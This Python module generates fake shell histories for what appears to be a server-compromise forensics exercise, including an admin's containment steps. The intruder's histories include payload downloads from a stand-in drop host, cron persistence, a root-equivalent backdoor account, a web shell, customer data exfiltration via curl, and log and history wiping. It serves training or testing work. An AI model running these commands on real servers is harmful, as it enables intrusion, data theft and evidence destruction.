"""What the people and the intruder typed, in the format of each shell."""

from .clock import MINUTE, SECOND, utc
from .incident import AT, ATTACKER, BEAT, DROP, SHELL_PAGE


def _stamped(commands):
    return "".join(f"#{t // SECOND}\n{words}\n" for t, words in commands)


def deploy_bash():
    """HISTTIMEFORMAT set: a comment with the time before each command. The last ones are not deploy's own."""
    own = [(utc(f"2026-10-{19 + n} 07:{10 + n}:0{n % 10}"), words) for n, words in enumerate([
        "cd /srv/app", "git pull --ff-only", "docker compose pull", "docker compose up -d", "docker ps", "docker logs --tail 20 shop",
        "df -h", "cd /srv/app && git log -1", "docker image prune -f", "docker compose up -d", "for f in *.toml; do\n  echo \"$f\"\ndone",
        "exit"])]
    t = AT["login"]
    return _stamped(own + [(t + 40 * SECOND, "id"), (t + 47 * SECOND, "w"), (t + 55 * SECOND, "uname -a"), (t + 71 * SECOND, "sudo -l"),
                           (t + 90 * SECOND, "cat /etc/passwd"), (t + 98 * SECOND, "ls -la /home"),
                           (t + 110 * SECOND, f"curl -so /tmp/enum.sh {DROP}enum.sh"), (t + 123 * SECOND, "sh /tmp/enum.sh"),
                           (t + 149 * SECOND, "sudo /bin/bash")])


def root_bash():
    """No times: root's shell keeps none."""
    return "\n".join([
        "apt update", "apt -y upgrade", "systemctl restart nginx", "nginx -t", "vi /etc/nginx/sites-enabled/default", "ufw status",
        "journalctl -u docker --since today", "df -h", "ls -la /srv/app", "tail -f /var/log/nginx/error.log", "chattr +a /var/log/auth.log",
        "exit", "mkdir -p /usr/local/lib/.sysupd", f"curl -so {BEAT} {DROP}beat.sh", f"chmod 755 {BEAT}",
        f"echo '*/10 * * * * root {BEAT} >/dev/null 2>&1' | tee /etc/cron.d/php-session-gc",
        "useradd -o -u 0 -g 0 -d /var/lib/sysupd -m -s /bin/bash sysupd", "passwd sysupd", "ls /var/www/html/uploads | tail",
        f"curl -so /var/www/html{SHELL_PAGE} {DROP}g.txt", f"chown www-data:www-data /var/www/html{SHELL_PAGE}", "w", "exit"]) + "\n"


def sysupd_bash():
    """The intruder's own history, deleted at the end; the image still holds it in unallocated blocks."""
    pack, send, t = AT["pack"], AT["send"], AT["tamper"]
    return _stamped([
        (pack - 200 * SECOND, "w"), (pack - 90 * SECOND, "docker ps"), (pack - 51 * SECOND, "docker logs --tail 50 shop"),
        (pack - 20 * SECOND, "mkdir /var/tmp/.s"), (pack, "tar -czf /var/tmp/.s/site.tar.gz /srv/app /var/www/html"),
        (pack + 20 * SECOND, "for p in $(seq 1 24); do docker exec shop wget -qO- localhost/internal/export?table=customers\\&page=$p; "
         "done > /var/tmp/.s/customers.csv"), (pack + 140 * SECOND, "zip -q -P infected /var/tmp/.s/customers.zip /var/tmp/.s/customers.csv"),
        (send, f"curl -sT /var/tmp/.s/site.tar.gz {DROP}"), (send + 96 * SECOND, f"curl -sT /var/tmp/.s/customers.zip {DROP}"),
        (t, f"sed -i /{ATTACKER}/d /var/log/auth.log"), (t + 14 * SECOND, "ls -la /var/log"),
        (t + 22 * SECOND, "rm -f /var/tmp/.s/customers.zip /var/tmp/.s/site.tar.gz /var/tmp/.s/customers.csv"),
        (t + 47 * SECOND, "rm -f /tmp/enum.sh"), (t + 61 * SECOND, "rm -f /var/lib/sysupd/.bash_history")])


def jane_zsh():
    """Extended history: start and length; one command of two lines."""
    own = [(utc(f"2026-10-{19 + n % 11} 08:{20 + n}:11"), n % 7, words) for n, words in enumerate([
        "sudo apt update", "sudo apt upgrade", "sudo nginx -t", "sudo systemctl reload nginx", "less /var/log/nginx/error.log",
        "df -h", "docker ps", "cd /srv/app", "git status", "htop", "for d in a b; do\\\n  echo $d; done", "sudo journalctl -u nginx",
        "sudo systemctl status docker", "exit"])]
    t = AT["noticed"]
    own += [(t + int(n * MINUTE), k, words) for n, k, words in [
        (1, 0, "w"), (2, 2, "ss -tp"), (3, 1, "sudo last -f /var/log/wtmp | head -40"), (4, 0, "grep sysupd /etc/passwd"),
        (5, 1, "sudo grep -r beat.sh /etc/cron.d"), (7, 9, "grep -c 203.0.113.66 /var/log/auth.log"),
        (9, 0, f"sudo chmod 000 /var/www/html{SHELL_PAGE}"), ((AT["beat stopped"] - t) // SECOND / 60, 2, "sudo mv /etc/cron.d/php-session-gc /root/php-session-gc.found"),
        (12, 1, "sudo usermod -L sysupd"), (13, 1, "sudo passwd -l deploy"), (20, 0, "logger 'web01 is compromised'"), (49, 0, "sudo poweroff")]]
    return "".join(f": {when // SECOND}:{length};{words}\n" for when, length, words in sorted(own))


def boris_fish():
    commands = ["cd /srv/app", "ls -la", "git log --oneline | head", "make test", "docker logs shop", "grep -r TODO src", "curl -s localhost/api/cart",
                "vi config.toml", "git diff", "git commit -m 'cart: round prices'", "git push", "exit"]
    out = []
    for n in range(24):
        out.append(f"- cmd: {commands[n % 12]}\n  when: {utc('2026-10-20 08:00:00') // SECOND + n * 40_111}\n")
        if commands[n % 12].startswith("vi "):
            out.append("  paths:\n    - config.toml\n")
    return "".join(out)
